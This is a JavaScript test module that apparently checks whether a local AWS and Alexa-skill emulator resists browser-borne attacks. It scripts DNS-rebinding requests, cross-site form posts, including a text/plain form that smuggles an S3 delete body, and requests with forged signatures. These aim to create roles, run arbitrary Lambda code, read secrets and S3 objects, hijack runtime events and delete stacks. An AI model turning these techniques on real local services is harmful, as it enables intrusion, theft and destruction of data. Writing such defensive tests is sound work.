// The attacks that would do harm, each with the way to see whether it has: by what the page read, or by
// the state of the stage that its keys show.

import { existsSync } from "node:fs";
import { join } from "node:path";
import { strToU8, zipSync } from "fflate";
import { attempt } from "./attempt.mjs";

const FUNCTIONS = "/2015-03-31/functions";
const TRUST = JSON.stringify({
  Version: "2012-10-17",
  Statement: [{ Effect: "Allow", Principal: { Service: "lambda.amazonaws.com" }, Action: "sts:AssumeRole" }],
});
const IAM = { Version: "2010-05-08" };
const STACKS = { Version: "2010-05-15" };
const BUCKET = "treasure";
const KEY = "map.txt";
const TREASURE = "under the third palm";
const MADE_UP = "0".repeat(64);
const EVENT = "an event for the function alone";

/** The zip of a function that runs this script for each event. */
function functionOf(handler) {
  const script = `#!${process.execPath}
const api = "http://" + process.env.AWS_LAMBDA_RUNTIME_API + "/2018-06-01/runtime/invocation/";
const handle = ${handler};
(async () => {
  for (;;) {
    const event = await fetch(api + "next");
    const id = event.headers.get("lambda-runtime-aws-request-id");
    const answer = await handle(await event.json());
    await fetch(api + id + "/response", { method: "POST", body: JSON.stringify(answer) });
  }
})();
`;
  const zip = zipSync({ bootstrap: [strToU8(script), { os: 3, attrs: 0o755 << 16 }] });
  return Buffer.from(zip).toString("base64");
}

function creation(name, role, handler, variables) {
  return JSON.stringify({
    FunctionName: name,
    Role: role,
    Runtime: "provided.al2023",
    Handler: "bootstrap",
    Code: { ZipFile: functionOf(handler) },
    Environment: { Variables: variables },
  });
}

const roleArn = (name) => `arn:aws:iam::000000000000:role/${name}`;

/** A signature that is none, as headers and as a query. */
function forged(service, region) {
  const date = new Date().toISOString().replace(/[-:]|\.\d+/g, "");
  const credential = `AKIDLOCAL/${date.slice(0, 8)}/${region}/${service}/aws4_request`;
  return {
    headers: {
      authorization: `AWS4-HMAC-SHA256 Credential=${credential}, SignedHeaders=host, Signature=${MADE_UP}`,
      "x-amz-date": date,
      "x-amz-target": "AWSCognitoIdentityProviderService.DescribeUserPoolClient",
    },
    query: new URLSearchParams({
      "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
      "X-Amz-Credential": credential,
      "X-Amz-Date": date,
      "X-Amz-Expires": "300",
      "X-Amz-SignedHeaders": "host",
      "X-Amz-Signature": MADE_UP,
    }).toString(),
  };
}

/** What the attacks are after, made with the stage's keys. */
export async function prepare(stage) {
  const expect = (wanted, answer) => {
    if (answer.status !== wanted) throw new Error(`the stage answered ${answer.status}: ${answer.text}`);
  };
  expect(200, await stage.aws("s3", `/${BUCKET}`, { method: "PUT" }));
  expect(200, await stage.aws("s3", `/${BUCKET}/${KEY}`, { method: "PUT", body: TREASURE }));
  expect(200, await stage.query("iam", IAM.Version, { Action: "CreateRole", RoleName: "clerk", AssumeRolePolicyDocument: TRUST }));
  const body = creation("clerk", roleArn("clerk"), "() => process.env.AWS_LAMBDA_RUNTIME_API", {});
  expect(201, await stage.aws("lambda", FUNCTIONS, { method: "POST", body }));
  // Lambda is ready when it has been asked how far it is.
  expect(200, await stage.aws("lambda", `${FUNCTIONS}/clerk`, { method: "GET" }));
  const address = await invoke(stage, "{}");
  const client = await stage.call("cognito-idp", "DescribeUserPoolClient", { UserPoolId: stage.userPoolId, ClientId: stage.clientId });
  const described = (await stage.query("cloudformation", STACKS.Version, { Action: "DescribeStacks" })).text;
  const stacks = [...described.matchAll(/<StackName>([^<]+)<\/StackName>/g)].map(([, name]) => name);
  return {
    runtime: JSON.parse(address),
    secret: client.UserPoolClient.ClientSecret,
    stacks,
    app: await stage.device("GET", `/app/skills/${stage.skillId}`),
    clock: (await stage.device("GET", "/control/clock")).skippedSeconds,
  };
}

const invoke = async (stage, body) =>
  (await stage.aws("lambda", `${FUNCTIONS}/clerk/invocations`, { method: "POST", body })).text;

/**
 * The attacks on one stage. `pages` has a page of a foreign site, and one for each listener whose name
 * leads to it. Each attack answers whether it has done its harm.
 */
export function attacks(stage, prepared, pages, folder) {
  const { region } = stage;
  const aws = stage.url("aws");
  const device = stage.url("device");
  const tries = async (page, ...cases) => {
    const read = [];
    for (const one of cases) read.push(...(await page.evaluate(attempt, [one])));
    return read;
  };
  const fetches = (url, method, headers, body) => ({ how: "fetch", url, method, headers, body });
  const forge = (service, path, method, body, at = region) =>
    fetches(aws + path, method, forged(service, at).headers, body);
  const rebound = (listener, path, method, headers, body) =>
    tries(pages.rebound[listener], fetches(path, method, headers, body));
  const formOf = (service, fields, path = "/?", how = "form urlencoded", at = region) =>
    tries(pages.foreign, { how, url: `${aws}${path}${path.endsWith("?") ? "" : "&"}${forged(service, at).query}`, fields });
  const form = (path) => tries(pages.foreign, { how: "form text", url: device + path, fields: { x: "" } });
  const app = () => stage.device("GET", `/app/skills/${stage.skillId}`);
  const hasRole = async (name) => (await stage.query("iam", IAM.Version, { Action: "GetRole", RoleName: name })).status === 200;
  const stack = async (name) => (await stage.query("cloudformation", STACKS.Version, { Action: "DescribeStacks", StackName: name })).text;
  const unprotect = (name) =>
    formOf("cloudformation", { Action: "UpdateTerminationProtection", ...STACKS, StackName: name, EnableTerminationProtection: "false" });
  const [first, second] = prepared.stacks;
  // S3 refuses headers of other services by name.
  const forS3 = () => {
    const { "x-amz-target": _, ...headers } = forged("s3", "us-east-1").headers;
    return headers;
  };

  return {
    "a fetch runs a program of the page's choice": async () => {
      const marker = join(folder, "native");
      const handler = `() => (require("node:fs").writeFileSync(process.env.MARKER, "here"), "ran")`;
      const role = new URLSearchParams({ Action: "CreateRole", ...IAM, RoleName: "evil", AssumeRolePolicyDocument: TRUST });
      await tries(
        pages.foreign,
        forge("iam", "/", "POST", role.toString()),
        forge("lambda", FUNCTIONS, "POST", creation("evil", roleArn("evil"), handler, { MARKER: marker })),
        // Lambda is ready when it has been asked how far it is.
        forge("lambda", `${FUNCTIONS}/evil`, "GET"),
        forge("lambda", `${FUNCTIONS}/evil/invocations`, "POST", "{}"),
      );
      return existsSync(marker);
    },
    "a fetch reads the client secret": async () => {
      const body = JSON.stringify({ UserPoolId: stage.userPoolId, ClientId: stage.clientId });
      const [read] = await tries(pages.foreign, forge("cognito-idp", "/", "POST", body));
      return read?.text.includes(prepared.secret);
    },
    "a rebound name reads the outbox": async () => {
      const [read] = await rebound("device", "/outbox", "GET");
      return read?.status === 200 && read.text.includes("@example.com");
    },
    "a rebound name sets the clock": async () => {
      await rebound("device", "/control/clock", "POST", { "content-type": "application/json" }, '{"advanceSeconds":60}');
      return (await stage.device("GET", "/control/clock")).skippedSeconds !== prepared.clock;
    },
    "a rebound name makes a security profile": async () => {
      const headers = { "content-type": "application/json" };
      await rebound("device", "/console/security-profiles/evil", "PUT", headers, '{"returnUrls":["https://evil.example/"]}');
      return JSON.stringify(await stage.device("GET", "/console/security-profiles")).includes("evil.example");
    },
    "a rebound name reads S3": async () => {
      const headers = forS3();
      const [read] = await rebound("aws", `/${BUCKET}/${KEY}`, "GET", headers);
      return read?.text === TREASURE;
    },
    "a rebound name writes to S3": async () => {
      const headers = forS3();
      await rebound("aws", `/${BUCKET}/planted`, "PUT", headers, "x");
      return (await stage.aws("s3", `/${BUCKET}/planted`)).status === 200;
    },
    "a rebound name gets a token of the developer's API used": async () => {
      const [read] = await rebound("smapi", "/v1/vendors", "GET", { authorization: "Bearer Atza|local-developer" });
      return read?.status === 200;
    },
    "a rebound name takes a function's event and answers it": async () => {
      const runtime = "/2018-06-01/runtime/invocation/";
      const before = stage.arrived().length;
      const taken = rebound("runtime", `${runtime}next`, "GET").then(([read]) => read);
      // The function waits already; whoever waits second gets the second event.
      const waits = () => stage.arrived().slice(before).some(({ target }) => target === `${runtime}next`);
      while (!waits() && (await Promise.race([taken, pause(20, "still")])) === "still");
      const answers = [invoke(stage, JSON.stringify(EVENT))];
      await Promise.race([taken, ...answers]);
      answers.push(invoke(stage, JSON.stringify(EVENT)));
      const read = await taken;
      if (read?.requestId) await rebound("runtime", `${runtime}${read.requestId}/response`, "POST", {}, '"stolen"');
      return read?.text.includes(EVENT) && (await Promise.all(answers)).includes('"stolen"');
    },
    "a form disables the skill": async () => {
      await form(`/app/skills/${stage.skillId}/disable`);
      return !(await app()).enabled;
    },
    "a form enables the skill": async () => {
      await form(`/app/skills/${stage.skillId}/enable`);
      const { enabled, userId } = await app();
      return enabled && userId !== prepared.app.userId;
    },
    "a form certifies the skill": async () => {
      await form(`/console/skills/${stage.skillId}/certify`);
      return (await stage.smapi(`/v1/skills/${stage.skillId}/stages/live/manifest`)).status === 200;
    },
    "a form makes a role": async () => {
      await formOf("iam", { Action: "CreateRole", ...IAM, RoleName: "formed", AssumeRolePolicyDocument: TRUST });
      return hasRole("formed");
    },
    "a form deletes objects": async () => {
      // A text/plain form sends NAME=VALUE: the first `=` of the document is the one in between.
      const fields = { '<Delete xmlns': `"http://s3.amazonaws.com/doc/2006-03-01/"><Object><Key>${KEY}</Key></Object></Delete>` };
      await formOf("s3", fields, `/${BUCKET}?delete`, "form text", "us-east-1");
      return (await stage.aws("s3", `/${BUCKET}/${KEY}`)).status === 404;
    },
    "a form ends the protection of a stack": async () => {
      await unprotect(first);
      return (await stack(first)).includes("<EnableTerminationProtection>false<");
    },
    "a form deletes a stack": async () => {
      await unprotect(second);
      await formOf("cloudformation", { Action: "DeleteStack", ...STACKS, StackName: second });
      return !/_COMPLETE<\/StackStatus>/.test(await stack(second)) || /DELETE_COMPLETE/.test(await stack(second));
    },
  };
}

const pause = (milliseconds, answer) => new Promise((resolve) => setTimeout(() => resolve(answer), milliseconds));
